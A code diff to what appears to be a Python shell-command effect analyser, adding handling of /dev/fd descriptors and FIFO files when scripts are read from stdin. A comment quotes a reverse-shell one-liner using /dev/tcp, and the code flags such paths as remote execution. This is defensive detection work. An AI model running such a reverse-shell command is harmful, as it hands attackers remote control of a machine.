@@ -11,7 +11,7 @@ import re
 from functools import cache
 
 from ..model.effect import Certainty, Effect, EffectKind, Target, TargetKind
-from ..shell.invocation import Field, Known, literal
+from ..shell.invocation import Field, Known, Stdin, literal
 from . import flow, output
 from .call import Call, Scene, inside, path_targets
 from .followed import GIVEN, followed
@@ -136,12 +136,24 @@ def script_file(
         if path in ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"):
             yield from run_stdin(call, scene, positional=positional[1:], via=via)
             continue
+        other = descriptor(path, call)
+        if other is not None:
+            yield from run_stdin(call.replace(invocation=call.invocation.replace(stdin=other)), scene, positional=positional[1:], via=via)
+            continue
         if path.startswith(("/dev/tcp/", "/dev/udp/")):  # `bash -i >& /dev/tcp/HOST/PORT 0>&1`
             host, _, port = path.removeprefix("/dev/").partition("/")[2].partition("/")
             yield call.effect(EffectKind.NET_REMOTE_EXEC, Target(TargetKind.HOST, host), reverse="1", via="bash", port=port)
             continue
         extra = {"dynamic": "interpreter" if target.dynamic else "", "unset": ",".join(field.unset), "source": brought(path, scene)}
         yield call.effect(EffectKind.CODE_SCRIPT, target, extra, certainty=weakest(call.certainty, sure), language="shell")
+
+
+def descriptor(path: str, call: Call) -> Stdin | None:
+    """What `/dev/fd/3` is open on, for descriptors that the same text opened."""
+    folder, _, number = path.rpartition("/")
+    if folder not in ("/dev/fd", "/proc/self/fd") or not number.isdigit():
+        return None
+    return dict(call.invocation.fds).get(int(number))
 
 
 def brought(path: str, scene: Scene) -> str:
@@ -151,7 +163,7 @@ def brought(path: str, scene: Scene) -> str:
 
 def _written(call: Call, scene: Scene, path: str, positional: tuple[Field, ...], via: str) -> Iterator[Effect]:
     target = Target(TargetKind.PATH, path)
-    text = scene.files[path]
+    text = output.fifo_text(path, scene) if scene.sources.get(path) == output.FIFO else scene.files[path]
     written = "" if scene.sources.get(path) == GIVEN else "1"
     yield call.effect(EffectKind.CODE_SCRIPT, target, language="shell", written=written, readable="1" if text is not None else "")
     if text is None:
